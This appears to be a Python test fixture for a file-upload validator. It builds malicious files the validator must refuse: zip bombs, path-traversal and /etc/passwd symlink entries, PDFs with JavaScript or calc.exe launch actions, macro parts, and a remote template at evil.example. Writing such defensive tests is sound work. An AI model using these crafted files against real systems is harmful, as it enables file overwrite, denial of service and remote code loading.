"""Files that must not be taken in, each with the code of its refusal."""

import io
import struct
import zipfile

import pikepdf

from tests.home import samples

MEGABYTE = 1024 * 1024


def bomb(size=300 * MEGABYTE):
    return samples.office("xlsx", [("xl/worksheets/sheet1.xml", b"\0" * size)])


def lying_bomb():
    """The table of contents says 10 bytes, the stream holds 50 MB."""
    data = bytearray(samples.office("xlsx", [("xl/big.xml", b"a" * 50 * MEGABYTE)]))
    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(b"xl/big.xml"))
    data[entry + 24 : entry + 28] = struct.pack("<I", 10)
    return bytes(data)


def archive_with(name):
    out = io.BytesIO(samples.office("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), "x")
    return out.getvalue()


def symlink():
    out = io.BytesIO(samples.office("docx"))
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked_zip():
    data = bytearray(samples.office("docx"))
    entry = data.find(b"PK\x01\x02")
    data[entry + 8] |= 1
    return bytes(data)


def scripted(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launching(document):
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))


def carrying(document):
    document.attachments["x.txt"] = b"inside"


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'
REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
BAD = {
    "nothing": (lambda: b"", "a.pdf", "empty"),
    "no ending": (lambda: samples.pdf(), "a", "kind"),
    "unknown ending": (lambda: b"MZ", "a.exe", "kind"),
    "vector picture": (lambda: b"<svg/>", "a.svg", "kind"),
    "page named pdf": (lambda: b"<html><script>1</script>%PDF-1.4", "a.pdf", "content"),
    "pdf named jpg": (lambda: samples.pdf(), "a.jpg", "content"),
    "png named jpg": (lambda: samples.picture("PNG"), "a.jpg", "content"),
    "word named excel": (lambda: samples.office("docx"), "a.xlsx", "content"),
    "old office": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.docx", "content"),
    "locked office": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "a.docx",
        "encrypted",
    ),
    "127 megapixels": (lambda: samples.huge_png(11_200, 11_300), "a.png", "pixels"),
    "too wide": (lambda: samples.huge_png(12_001, 10), "a.png", "side"),
    "cut photograph": (lambda: samples.picture(size=(400, 300))[:1500], "a.jpg", "damaged"),
    "cut png": (lambda: samples.picture("PNG", size=(400, 300))[:-40], "a.png", "damaged"),
    "picture and archive": (lambda: samples.picture("PNG") + samples.office("docx"), "a.png", "two_kinds"),
    "cut pdf": (lambda: samples.pdf()[:-30], "a.pdf", "damaged"),
    "only a head": (lambda: b"%PDF-1.7\nnothing\n%%EOF", "a.pdf", "damaged"),
    "locked pdf": (lambda: samples.pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "a.pdf", "encrypted"),
    "restricted pdf": (lambda: samples.pdf(encryption=pikepdf.Encryption(user="", owner="o")), "a.pdf", "encrypted"),
    "script in pdf": (lambda: samples.pdf(scripted), "a.pdf", "script"),
    "program in pdf": (lambda: samples.pdf(launching), "a.pdf", "script"),
    "script in object stream": (
        lambda: samples.pdf(scripted, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "a.pdf",
        "script",
    ),
    "file in pdf": (lambda: samples.pdf(carrying), "a.pdf", "embedded"),
    "bomb": (lambda: bomb(), "a.xlsx", "archive_size"),
    "dense bomb": (lambda: bomb(30 * MEGABYTE), "a.xlsx", "archive_size"),
    "lying bomb": (lambda: lying_bomb(), "a.xlsx", "damaged"),
    "many parts": (lambda: samples.office("docx", [(f"word/{n}.xml", "<a/>") for n in range(200)]), "a.docx", "archive_files"),
    "path upwards": (lambda: archive_with("../../evil.xml"), "a.docx", "archive_paths"),
    "path backwards": (lambda: archive_with("word\\..\\..\\evil.xml"), "a.docx", "archive_paths"),
    "absolute path": (lambda: archive_with("/etc/passwd"), "a.docx", "archive_paths"),
    "link": (lambda: symlink(), "a.docx", "archive_paths"),
    "locked part": (lambda: locked_zip(), "a.docx", "encrypted"),
    "docm renamed": (lambda: samples.office("docm"), "a.docx", "macros"),
    "macro part": (lambda: samples.office("docx", [("word/vbaProject.bin", b"x")]), "a.docx", "macros"),
    "old macros": (lambda: samples.office("xlsx", [("xl/macrosheets/sheet1.xml", b"<a/>")]), "a.xlsx", "macros"),
    "template from the net": (lambda: samples.office("docx", [("word/_rels/settings.xml.rels", REMOTE)]), "a.docx", "macros"),
    "archive inside": (lambda: samples.office("docx", [("word/a.bin", samples.office("docx"))]), "a.docx", "embedded"),
    "program inside": (lambda: samples.office("docx", [("word/a.bin", b"MZ\x90")]), "a.docx", "embedded"),
    "entities": (lambda: samples.office("docx", [("word/a.xml", ENTITIES)]), "a.docx", "damaged"),
    "no archive": (lambda: b"PK\x03\x04 nothing", "a.docx", "damaged"),
}
